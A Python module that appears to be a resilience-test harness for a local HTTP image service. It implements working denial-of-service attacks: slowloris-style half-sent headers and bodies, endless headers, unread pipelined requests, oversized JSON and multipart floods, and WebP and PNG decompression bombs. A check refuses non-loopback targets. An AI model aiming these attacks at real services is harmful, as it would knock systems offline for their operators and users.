"""Attacks of a hostile client: each is a function that attacks a target for some seconds.

For your own service on your own machine: an attack refuses a target that is not a loopback address.
"""

from __future__ import annotations

import http.client
import io
import ipaddress
import itertools
import json
import socket
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass
from typing import Any

from PIL import Image

MIB = 2**20
GIVE_UP_S = 60
FORM = "multipart/form-data; boundary=limit"


@dataclass(frozen=True)
class Target:
    """The attacked service, the duration, and the attacker's key."""

    host: str
    port: int
    seconds: float
    key: str | None = None

    def __post_init__(self) -> None:
        if not ipaddress.ip_address(self.host).is_loopback:
            raise ValueError(f"{self.host} is not this machine; attack your own service on 127.0.0.1")

    @property
    def headers(self) -> dict[str, str]:
        """The headers with the attacker's key."""
        return {} if self.key is None else {"X-API-Key": self.key}

    def head(self, method: str, path: str, **headers: Any) -> bytes:
        """Return the head of a request without the final empty line."""
        lines = {"Host": f"{self.host}:{self.port}", **self.headers}
        lines |= {name.replace("_", "-"): str(value) for name, value in headers.items()}
        return "".join(
            [f"{method} {path} HTTP/1.1\r\n", *(f"{name}: {value}\r\n" for name, value in lines.items())]
        ).encode()

    def send(self, method: str, path: str, body: bytes = b"", kind: str = "application/json") -> None:
        """Send a request and ignore the result."""
        connection = http.client.HTTPConnection(self.host, self.port, timeout=GIVE_UP_S)
        with suppress(OSError, http.client.HTTPException):
            connection.request(method, path, body, {"Content-Type": kind, **self.headers})
            connection.getresponse().read()
        connection.close()

    def rounds(self) -> Iterator[int]:
        """Yield numbers until the time is over."""
        until = time.monotonic() + self.seconds
        return itertools.takewhile(lambda _: time.monotonic() < until, itertools.count())

    def together(self, clients: int, act: Callable[[int], None]) -> None:
        """Call `act` repeatedly in several clients."""

        def repeat(client: int) -> None:
            for _ in self.rounds():
                act(client)

        with ThreadPoolExecutor(clients) as pool:
            list(pool.map(repeat, range(clients)))

    @contextmanager
    def crowd(self, size: int, first: bytes) -> Iterator[list[socket.socket]]:
        """Open connections that have each sent the same bytes."""
        with ExitStack() as stack:
            found = []
            for _ in range(size):
                with suppress(OSError):
                    connection = stack.enter_context(socket.create_connection((self.host, self.port), timeout=5))
                    found.append(connection)
                    connection.sendall(first)
            yield found


def half_headers(target: Target) -> None:
    """Open 1,200 connections that send a header every half second and never finish."""
    _drip(target, target.head("GET", "/v1/info"), b"X-More: x\r\n", 1200)


def half_bodies(target: Target) -> None:
    """Start 600 uploads that send a byte every half second."""
    head = target.head("POST", "/v1/query", Content_Type="image/jpeg", Content_Length=30 * MIB)
    _drip(target, head + b"\r\n", b"x", 600)


def large_half_bodies(target: Target) -> None:
    """Start 300 uploads that stop after 4 of 30 MiB."""
    head = target.head("POST", "/v1/query", Content_Type="image/jpeg", Content_Length=30 * MIB)
    _drip(target, head + b"\r\n" + b"x" * (4 * MIB), b"x", 300)


def endless_headers(target: Target) -> None:
    """Send endless headers from eight clients."""

    def act(client: int) -> None:
        with suppress(OSError), socket.create_connection((target.host, target.port), timeout=5) as connection:
            connection.sendall(target.head("GET", "/healthz"))
            for _ in target.rounds():
                connection.sendall(b"X-More: " + b"x" * 60_000 + b"\r\n")

    target.together(8, act)


def unread_answers(target: Target) -> None:
    """Request a list a hundred times on each of 200 connections and read no answer."""
    request = target.head("GET", "/v1/items?limit=1000") + b"\r\n"
    with target.crowd(200, request * 100):
        for _ in target.rounds():
            time.sleep(0.1)


def large_json(target: Target) -> None:
    """Send 32 MiB of JSON repeatedly from four clients."""
    body = b'{"item_ids": [' + b"1," * (16 * MIB - 20) + b"1]}"
    target.together(4, lambda _: target.send("POST", "/v1/erasures", body))


def wrong_values(target: Target) -> None:
    """Send as many wrong values as fit in a body from four clients."""
    bodies = [json.dumps({"item_ids": ["x"] * count}).encode() for count in (10_000, 40_000)]
    target.together(4, lambda client: target.send("POST", "/v1/erasures", bodies[client % 2]))


def metadata_file(target: Target) -> None:
    """Send 27 MiB of metadata as a file from four clients."""
    text = b"[" + b'{"metadata": {"a": 1}},' * (27 * MIB // 23) + b"{}]"
    body = form(("images", b"x"), ("metadata", text))
    target.together(4, lambda _: target.send("POST", "/v1/items", body, FORM))


def metadata_of_boxes(target: Target) -> None:
    """Send 500 boxes with 16 KiB of metadata each from four clients."""
    frame = {"metadata": {"note": "x" * 15_000}, "boxes": [{"box": [n, 0, n + 40, 80]} for n in range(500)]}
    files = [("images", image("JPEG", 600, 100)), ("metadata", json.dumps(frame).encode())]
    target.together(4, lambda _: target.send("POST", "/v1/items", form(*files), FORM))


def near_boundaries(target: Target) -> None:
    """Send 30 MiB of almost-boundaries of a form from four clients."""
    body = form(("image", b"\r\n--limi" * (30 * MIB // 8)))
    target.together(4, lambda _: target.send("POST", "/v1/query", body, FORM))


def large_uploads(target: Target) -> None:
    """Send 31 MiB that are not an image from 16 clients."""
    body = form(("images", b"x" * (31 * MIB)))
    target.together(16, lambda _: target.send("POST", "/v1/items", body, FORM))


def webp_bombs(target: Target) -> None:
    """Send a tiny WebP file of 25 million pixels from 16 clients."""
    body = image("WEBP", 5000, 5000)
    target.together(16, lambda _: target.send("POST", "/v1/query", body, "image/webp"))


def png_bombs(target: Target) -> None:
    """Send a transparent PNG of 25 million pixels from 16 clients."""
    body = image("PNG", 5000, 5000, "RGBA")
    target.together(16, lambda _: target.send("POST", "/v1/query", body, "image/png"))


def made_up_labels(target: Target) -> None:
    """Send made-up methods, paths and cameras from eight clients."""
    names = itertools.count()
    body = image("JPEG", 32, 64)

    def act(client: int) -> None:
        name = next(names)
        target.send(f"M{name}" if client % 2 else "REPORT", f"/v1/{name}")
        target.send("POST", f"/v1/query?camera_id=camera-{name}", body, "image/jpeg")

    target.together(8, act)


ATTACKS: dict[str, Callable[[Target], None]] = {
    "half-sent headers": half_headers,
    "endless headers": endless_headers,
    "half-sent bodies": half_bodies,
    "large half-sent bodies": large_half_bodies,
    "unread answers": unread_answers,
    "32 MiB of JSON": large_json,
    "wrong values": wrong_values,
    "27 MiB of metadata": metadata_file,
    "metadata of 500 boxes": metadata_of_boxes,
    "near boundaries": near_boundaries,
    "31 MiB uploads": large_uploads,
    "WebP bombs": webp_bombs,
    "PNG bombs": png_bombs,
    "made-up labels": made_up_labels,
}


def form(*parts: tuple[str, bytes]) -> bytes:
    """Return a form of files."""
    out = io.BytesIO()
    for name, content in parts:
        out.write(f'--limit\r\nContent-Disposition: form-data; name="{name}"; filename="a"\r\n\r\n'.encode())
        out.write(content + b"\r\n")
    out.write(b"--limit--\r\n")
    return out.getvalue()


def image(kind: str, width: int, height: int, mode: str = "RGB") -> bytes:
    """Return an image file of one colour."""
    out = io.BytesIO()
    Image.new(mode, (width, height)).save(out, kind, **({"lossless": True} if kind == "WEBP" else {}))
    return out.getvalue()


def _drip(target: Target, first: bytes, more: bytes, clients: int) -> None:
    with target.crowd(clients, first) as connections:
        for _ in target.rounds():
            for connection in connections:
                with suppress(OSError):
                    connection.send(more, socket.MSG_DONTWAIT)
            time.sleep(0.5)
